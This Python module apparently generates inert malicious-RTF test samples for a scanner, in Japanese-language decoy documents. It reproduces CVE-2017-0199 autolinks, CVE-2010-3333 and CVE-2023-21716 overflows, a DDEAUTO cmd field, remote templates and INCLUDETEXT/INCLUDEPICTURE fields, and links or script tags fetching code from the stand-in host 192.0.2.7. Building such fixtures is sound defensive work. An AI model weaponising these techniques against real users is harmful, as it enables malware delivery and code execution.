"""Rich text that attacks: objects in their disguises, fields that load, numbers and tables that overflow. All of it inert."""

from __future__ import annotations

from samples.build._rtf import document, escaped, field, hex_lines, jpeg, paragraph, picture, wmf
from samples.build.scanner import _ole1_package

KEPT = "請求書を送ります"


def _with(*body: bytes) -> bytes:
    return document(paragraph(KEPT), *body)


def package() -> bytes:
    shown = rb"{\result{\pict\jpegblip\picwgoal1440\pichgoal1080 " + hex_lines(jpeg()) + b"}}"
    return _with(
        rb"{\object\objemb\objw1440\objh1080{\*\objclass Package}{\*\objdata " + hex_lines(_ole1_package()) + b"}" + shown + b"}"
    )


def self_loading_link() -> bytes:
    """CVE-2017-0199: a linked object that loads itself when the document is opened."""
    return _with(
        rb"{\object\objautlink\objupdate\rsltpict\objw100\objh100{\*\objclass htmlfile}{\*\objdata "
        + hex_lines(b"http://192.0.2.7/x".ljust(64, b"\0"))
        + rb"}{\result\pard\plain "
        + escaped("連結の表示")
        + b"}}"
    )


def obfuscated_object() -> bytes:
    """Hex data cut by blanks, escapes, groups, unknown words and binary runs, as malicious files have it."""
    digits = hex_lines(_ole1_package())
    middle = len(digits) // 2
    cut = digits[:middle] + b" \t\r\n{\\*\\zzz}{\\xyz4 }\\'4\\bin3 }}}" + digits[middle:]
    return _with(b"{\\object\\objemb{{{{\\*\\objdata " + cut + b"}}}}}")


def nested_object() -> bytes:
    """The data thousands of groups deep."""
    return _with(b"{\\object\\objemb{\\*\\objdata " + b"{" * 5_000 + b"0105" + b"}" * 5_000 + b"}}")


def bare_object_data() -> bytes:
    return _with(b"{\\*\\objdata\\bin8 " + b"}\\{\\ole}" + b"0105000002000000}")


def activex() -> bytes:
    return _with(rb"{\object\objocx\objw100\objh100{\*\objclass Forms.CommandButton.1}{\*\objdata 0105000001}}")


def template() -> bytes:
    return _with(rb"{\*\template \\\\192.0.2.7\\share\\x.dotm}")


def mail_merge() -> bytes:
    return _with(rb"{\*\mailmerge\mmdatatypeodbc{\mmconnectstr DSN=x}{\mmquery SELECT}}", rb"{\*\nextfile C:\\x.rtf}")


def fields() -> bytes:
    """INCLUDETEXT split over runs and encodings, INCLUDEPICTURE, a field whose name another field gives."""
    split = (
        rb"{\field{\*\fldinst {\b INCL}{\i \'55\u68?}{ETEXT }{\f0 \\\\\\\\192.0.2.7\\\\x.docx}}{\fldrslt " + escaped("本文") + b"}}"
    )
    named = rb"{\field{\*\fldinst {\field{\*\fldinst QUOTE 73 78}{\fldrslt IN}}CLUDETEXT x}{\fldrslt y}}"
    inner = rb"{\field{\*\fldinst DAT{\field{\*\fldinst QUOTE ABAS}{\fldrslt ABAS}}E x}{\fldrslt z}}"
    shown = field(rb'INCLUDEPICTURE "http://192.0.2.7/x.png" \\d', escaped("絵"))
    return _with(rb"\pard\plain\f0 ", split, named, inner, shown, rb"\par")


def dde() -> bytes:
    return _with(rb"\pard\plain ", field(rb'DDEAUTO cmd "/c echo" x', escaped("計算結果")), rb"\par")


def link_to_program() -> bytes:
    return _with(rb"\pard\plain ", field(rb'HYPERLINK "file://192.0.2.7/share/x.exe"', escaped("こちら")), rb"\par")


def hidden_copy_of_a_link() -> bytes:
    code = rb"{HYPERLINK https://www.example.invalid/}{\*\datafield 00d0c9ea79f9bace118c8200aa004ba90b}"
    return _with(rb"{\field{\*\fldinst " + code + rb"}{\fldrslt x}}")


def form_macro() -> bytes:
    return _with(rb"{\field{\*\fldinst {FORMTEXT}{\*\formfield{\fftype0{\*\ffname a}{\*\ffentrymcr Run}}}}{\fldrslt x}}")


def shape_with_fragments() -> bytes:
    """CVE-2010-3333: an array that is longer than it says; and a click that opens a file."""
    link = rb"{\sp{\sn pihlShape}{\sv {\*\hl{\hlloc}{\hlsrc file://192.0.2.7/x.exe}{\hlfr x}}}}"
    return _with(
        rb"{\shp{\*\shpinst\shpleft0\shptop0\shpright100\shpbottom100{\sp{\sn pFragments}{\sv 1;1;0123456789abcdef}}"
        rb"{\sp{\sn pVerticies}{\sv 8;2;(0,0);(1,1);(2,2)}}" + link + rb"{\sp{\sn metroBlob}{\sv {\*\svb 504b0304}}}}}"
    )


def huge_font_table() -> bytes:
    """CVE-2023-21716: more fonts than the reader's table holds."""
    fonts = b"".join(b"{\\f%d;}" % number for number in range(3_000))
    return b"{\\rtf1\\ansi\\ansicpg932{\\fonttbl{\\f0\\fcharset128 MS Mincho;}" + fonts + b"}\\f0 " + escaped(KEPT) + b"\\par}"


def list_override() -> bytes:
    """CVE-2014-1761: a count of levels that is not theirs."""
    return _with(
        rb"{\*\listoverridetable{\listoverride\listid1\listoverridecount25{\lfolevel\listoverridestartat}\ls1}}\fs99999999999 "
    )


def packages_of_word() -> bytes:
    """Parts of newer files in hex, HTML source, variables, an embedded font, a drawing of Word 95."""
    zipped = hex_lines(b"PK\x03\x04" + bytes(60))
    return document(
        rb"{\*\themedata " + zipped + rb"}{\*\datastore " + zipped + rb"}{\*\xmlnstbl{\xmlns1 urn:x}}",
        rb"{\*\htmltag84 <script src=http://192.0.2.7/x.js></script>}{\*\docvar {a}{b}}{\*\fontemb\bin4 " + b"\0\1\0\0}",
        rb"{\info{\author " + escaped("作成者") + rb"}{\operator x}{\title " + escaped("表題") + b"}}",
        rb"{\*\do\dobxpage\dprect\dpx0\dpy0}{\*\zzsecret " + escaped("秘密") + b"}\\zzword3 ",
        paragraph(KEPT),
    )


def pictures() -> bytes:
    """A metafile, a program under the word of a picture, binary data in the text."""
    return _with(
        rb"{\pict\wmetafile8\picw2540\pich1905\picwgoal1440\pichgoal1080 " + hex_lines(wmf()) + b"}",
        picture(b"pngblip", b"MZ" + bytes(62)),
        b"{\\b\\bin6 }}{{\\x}\\par\n",
    )


def behind_the_end() -> bytes:
    return _with() + b"{\\object\\objemb{\\*\\objdata 0105000002000000}}MZ"


def short_header() -> bytes:
    """Readers take {\\rt for a beginning; a program's name hides in an escape."""
    return b"\r\n{\\rtx\\ansi\\ansicpg932{\\fonttbl{\\f0\\fcharset128 MS Gothic;}}\\f0 " + escaped(KEPT) + b"\\'07\\'zz\\u7?\\par}"
